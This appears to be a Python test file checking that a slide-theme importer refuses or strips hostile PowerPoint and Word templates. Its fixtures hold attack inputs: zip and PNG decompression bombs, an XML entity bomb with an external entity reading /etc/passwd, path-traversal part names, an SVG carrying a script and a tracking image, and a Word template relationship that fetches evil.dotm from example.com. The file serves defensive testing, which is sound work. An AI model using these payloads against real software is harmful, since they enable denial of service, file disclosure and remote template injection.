"""Templates that were made to do harm: refused or disarmed with a word, in bounded time and memory."""

from __future__ import annotations

import io
import struct
import tracemalloc
import warnings
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import pytest
from docx import Document

from deckgen.pipeline.themes import NewTheme, new_theme
from theme.brand.kinds import Parts, deck, edited, package_of

LAYOUTS = r"ppt/slideLayouts/slideLayout\d+\.xml"
MASTER_LINKS = r"ppt/slideMasters/_rels/slideMaster1\.xml\.rels"
MEBIBYTE = 1024 * 1024
IMAGE = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"
SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script>alert(1)</script>'
    b'<image href="http://example.com/spy.png" width="9" height="9"/><rect width="9" height="9"/></svg>'
)


def try_deck(parts: Parts, tmp_path: Path, more: Callable[[zipfile.ZipFile], None] = lambda package: None) -> NewTheme:
    path = tmp_path / "house.potx"
    path.write_bytes(package_of(parts))
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # of zipfile, about names that are there twice
        with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED, compresslevel=1) as package:
            more(package)
    return new_theme("house", path, None, tmp_path / "themes")


def refusal(done: NewTheme, tmp_path: Path) -> str:
    assert done.folder is None and not (tmp_path / "themes").exists()
    (problem,) = done.diagnostics
    assert problem.code == "DG609" and problem.hint
    return problem.message


def picture(parts: Parts, name: str, part: bytes) -> Parts:
    """A picture of the master's."""
    shape = (
        b'<p:pic><p:nvPicPr><p:cNvPr id="77" name="p"/><p:cNvPicPr/><p:nvPr/></p:nvPicPr><p:blipFill>'
        b'<a:blip xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:embed="rIdOdd"/>'
        b'</p:blipFill><p:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="9000" cy="9000"/></a:xfrm></p:spPr></p:pic>'
    )
    link = b'<Relationship Id="rIdOdd" Type="%s" Target="../media/%s"/></Relationships>' % (IMAGE, name.encode())
    parts = edited(parts, MASTER_LINKS, b"</Relationships>", link)
    parts = edited(parts, r"ppt/slideMasters/slideMaster1\.xml", b"</p:spTree>", shape + b"</p:spTree>")
    types = b'<Default Extension="%s" ContentType="image/x"/><Default ' % name.rpartition(".")[2].encode()
    return {**edited(parts, r"\[Content_Types\]\.xml", b"<Default ", types), f"ppt/media/{name}": part}


def huge_png() -> bytes:
    def chunk(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", 60_000, 50_000, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(b"\0" * 9)) + chunk(b"IEND", b"")


@pytest.mark.parametrize(
    ("name", "size"), [("ppt/slideLayouts/slideLayout99.xml", 40), ("ppt/media/image99.png", 90)], ids=["xml", "media"]
)
def test_a_bomb_is_refused_before_it_is_large(name: str, size: int, tmp_path: Path) -> None:
    def add(package: zipfile.ZipFile) -> None:
        with package.open(name, "w") as stream:
            for _ in range(size):
                stream.write(b" " * MEBIBYTE)

    tracemalloc.start()
    try:
        message = refusal(try_deck(deck(), tmp_path, add), tmp_path)
        _, most = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert f"{name} unpacks to more than" in message
    assert most < 200 * MEBIBYTE


@pytest.mark.parametrize("part", [LAYOUTS, r"ppt/theme/theme1\.xml", r"ppt/_rels/.*\.rels", r"\[Content_Types\]\.xml"])
def test_entities_are_refused_wherever_they_are(part: str, tmp_path: Path) -> None:
    bomb = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c SYSTEM "file:///etc/passwd">]>'
    parts = edited(deck(), part, b"?>", b"?>" + bomb)
    assert "declares a document type" in refusal(try_deck(parts, tmp_path), tmp_path)


@pytest.mark.parametrize(
    "name", ["../../outside.xml", "/etc/passwd", "ppt\\..\\..\\outside.xml", "ppt/../../outside.xml"]
)
def test_names_that_leave_the_package_are_refused(name: str, tmp_path: Path) -> None:
    message = refusal(try_deck(deck(), tmp_path, lambda package: package.writestr(name, b"x")), tmp_path)
    assert "it has a part named" in message
    assert sorted(path.name for path in tmp_path.iterdir()) == ["house.potx"]


def test_names_that_are_there_twice_are_refused(tmp_path: Path) -> None:
    name = "ppt/PRESENTATION.xml"
    message = refusal(try_deck(deck(), tmp_path, lambda package: package.writestr(name, b"x")), tmp_path)
    assert "two parts named" in message


def test_links_that_leave_the_package_lead_nowhere(tmp_path: Path) -> None:
    link = b'<Relationship Id="rIdOut" Type="%s" Target="../../../../etc/passwd"/>' % IMAGE
    out = b'<Relationship Id="rIdFar" Type="%s" Target="http://example.com/a.png" TargetMode="External"/>' % IMAGE
    done = try_deck(edited(deck(), MASTER_LINKS, b"</Relationships>", link + out + b"</Relationships>"), tmp_path)
    assert done.made is not None, done.diagnostics
    assert done.made.dropped["links out of the file"] == 1
    assert not any(b"passwd" in part or b"example.com" in part for part in done.made.files.values())


def test_shapes_in_shapes_without_end_are_refused(tmp_path: Path) -> None:
    group = b"<p:grpSp><p:nvGrpSpPr><p:cNvPr id='8' name='g'/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/>"
    deep = group * 5_000 + b"</p:grpSp>" * 5_000
    parts = edited(deck(), LAYOUTS, b"</p:spTree>", deep + b"</p:spTree>")
    assert "is no XML" in refusal(try_deck(parts, tmp_path), tmp_path)


def test_a_picture_of_three_gigabytes_is_left_out_with_a_word(tmp_path: Path) -> None:
    done = try_deck(picture(deck(), "huge.png", huge_png()), tmp_path)
    assert done.made is not None, done.diagnostics
    assert done.made.dropped["pictures that cannot be shown"] >= 1
    assert not any("huge.png" in name for name in done.made.files)
    assert not any(b"rIdOdd" in part for part in done.made.files.values())


def test_scripts_and_links_of_a_drawing_are_taken_out(tmp_path: Path) -> None:
    done = try_deck(picture(deck(), "odd.svg", SVG), tmp_path)
    assert done.made is not None, done.diagnostics
    (drawing,) = (part for name, part in done.made.files.items() if name.endswith("odd.svg"))
    assert b"script" not in drawing and b"example.com" not in drawing and b"rect" in drawing


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "encrypted or older"),
        (b"%PDF-1.7", "no whole Office file"),
        (b"", "no whole Office file"),
        (package_of(deck())[:-4000], "no whole Office file"),
        (package_of({"a.txt": b"x"}), "it has no [Content_Types].xml"),
        (package_of({f"ppt/x{number}.xml": b"<x/>" for number in range(4_100)}), "parts, more than"),
    ],
    ids=["encrypted", "pdf", "empty", "cut", "zip", "many"],
)
def test_what_is_no_template_is_refused(content: bytes, reason: str, tmp_path: Path) -> None:
    path = tmp_path / "house.potx"
    path.write_bytes(content)
    assert reason in refusal(new_theme("house", path, None, tmp_path / "themes"), tmp_path)


def test_a_word_template_that_fetches_another_one_fetches_nothing(tmp_path: Path) -> None:
    document = Document()
    document.save(str(tmp_path / "plain.docx"))
    with zipfile.ZipFile(tmp_path / "plain.docx") as package:
        parts = {name: package.read(name) for name in package.namelist()}
    office = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    parts["word/_rels/settings.xml.rels"] = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        b'Type="%s/attachedTemplate" Target="http://example.com/evil.dotm" TargetMode="External"/></Relationships>'
        % office
    )
    (tmp_path / "house.docx").write_bytes(package_of(parts))
    done = new_theme("house", None, tmp_path / "house.docx", tmp_path / "themes")
    assert done.made is not None, done.diagnostics
    assert done.made.dropped["links out of the file"] == 1
    assert not any(b"example.com" in part for part in done.made.files.values())


def test_styles_on_styles_in_a_circle_end(tmp_path: Path) -> None:
    document = Document()
    one, other = document.styles.add_style("One", 1), document.styles.add_style("Other", 1)
    one.base_style, other.base_style = other, one
    buffer = io.BytesIO()
    document.save(buffer)
    (tmp_path / "house.docx").write_bytes(buffer.getvalue())
    assert new_theme("house", None, tmp_path / "house.docx", tmp_path / "themes").folder is not None
